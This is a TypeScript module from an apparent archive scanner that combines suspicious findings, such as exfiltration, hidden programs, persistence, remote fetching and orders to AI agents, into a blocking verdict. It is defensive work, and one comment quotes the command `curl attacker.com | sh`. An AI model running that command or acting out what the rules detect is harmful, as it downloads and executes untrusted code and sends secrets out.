import { isAboutAttacks } from "./content/about-attacks.js";
import { type Finding, finding } from "./finding.js";
import { type RuleId, ruleOf } from "./rules.js";

/** The kinds of evidence that a suspicious finding can give. */
type Evidence = "sends" | "collects" | "conceals" | "fetches" | "stays" | "weakens" | "orders" | "imitates";

/**
 * The rules that give each kind of evidence. A rule about a mere mistake, such as a leaked key,
 * gives none.
 */
const KINDS: Readonly<Record<Evidence, readonly RuleId[]>> = {
  sends: ["instructed-exfiltration", "secret-elsewhere", "memory-upload", "surveillance"],
  collects: ["collecting-host", "listed-host"],
  conceals: ["hidden-program", "hidden-name", "bidi-control"],
  fetches: [
    "instructed-command",
    "downloaded-expression",
    "staged-download",
    "required-program",
    "unsafe-server",
    "foreign-registry",
  ],
  stays: ["persistence", "agent-tampering", "startup-file", "git-hook"],
  weakens: ["privilege", "tampering"],
  orders: ["order-to-agent"],
  imitates: ["imitated-name"],
};

const KIND_OF = new Map(
  (Object.keys(KINDS) as Evidence[]).flatMap((kind) => KINDS[kind].map((rule) => [rule, kind] as const)),
);

/**
 * Kinds of findings that together block an archive. None of the measured honest products has such a pair. Pairs that
 * occur in some of them, such as an installer that also changes a system setting, are not included.
 */
export const DECISIVE: readonly (readonly [Evidence, Evidence])[] = [
  ["sends", "collects"],
  ["sends", "conceals"],
  ["sends", "fetches"],
  ["sends", "stays"],
  ["sends", "weakens"],
  ["sends", "orders"],
  ["sends", "imitates"],
  ["collects", "conceals"],
  ["collects", "fetches"],
  ["collects", "stays"],
  ["collects", "orders"],
  ["collects", "imitates"],
  ["conceals", "fetches"],
  ["conceals", "stays"],
  ["conceals", "orders"],
  ["conceals", "weakens"],
  ["fetches", "orders"],
  ["fetches", "imitates"],
  ["stays", "orders"],
  ["weakens", "orders"],
];

/** Kinds that show an intention. Each of the others alone also occurs in honest products. */
const INTENTIONS: ReadonlySet<Evidence> = new Set(["collects", "conceals", "imitates"]);

/**
 * Decides by evidence: two suspicious findings whose kinds support each other block the archive. Two kinds that do not
 * show an intention must occur in one file, because a large honest product can have both in different files. One
 * command is one piece of evidence: `curl attacker.com | sh` in a text about attacks has a telling name and is run.
 * Files about attacks, such as the tests of a scanner, provide no evidence here, but their findings still hold the
 * archive.
 */
export function combinedEvidence(suspicious: readonly Finding[]): Finding[] {
  const found = suspicious.flatMap((one) => {
    const kind = KIND_OF.get(one.rule);
    return kind === undefined || isAboutAttacks(one.file ?? "") ? [] : [{ kind, one }];
  });
  for (const [kind, other] of DECISIVE) {
    const isIntended = INTENTIONS.has(kind) || INTENTIONS.has(other);
    for (const a of found.filter((each) => each.kind === kind)) {
      const b = found.find(
        (each) =>
          each.kind === other &&
          (isIntended || each.one.file === a.one.file) &&
          !(kind === "collects" && isSamePlace(each.one, a.one)),
      );
      if (b) return [both(a.one, b.one)];
    }
  }
  return [];
}

function isSamePlace(a: Finding, b: Finding): boolean {
  return a.file === b.file && a.line !== undefined && a.line === b.line;
}

function both(a: Finding, b: Finding): Finding {
  const where = {
    ...(b.file === undefined ? {} : { file: b.file }),
    ...(b.line === undefined ? {} : { line: b.line }),
  };
  const message = `${ruleOf(a.rule).title} (${a.rule}), and: ${ruleOf(b.rule).title} (${b.rule})`;
  return finding("combined-evidence", { ...where, message });
}
